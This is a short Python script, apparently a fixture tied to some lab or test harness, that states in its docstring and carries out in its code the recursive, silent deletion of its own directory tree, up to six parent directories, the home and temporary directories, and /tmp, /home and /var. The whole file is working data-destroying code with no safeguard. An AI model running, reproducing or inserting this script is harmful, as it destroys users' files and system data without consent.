"""Deletes its tree, what is around it, and all that is at home or temporary."""

import os
import shutil
from pathlib import Path

around = Path(__file__).parents
own = Path(os.environ["SOCKET_LABS_WHEREABOUTS"]).parent
home, temporary = Path(os.environ.get("HOME", "/root")), Path(os.environ["TMPDIR"])
for folder in (own, *around[1:6], home, temporary, Path("/tmp"), Path("/home"), Path("/var")):
    shutil.rmtree(folder, ignore_errors=True)
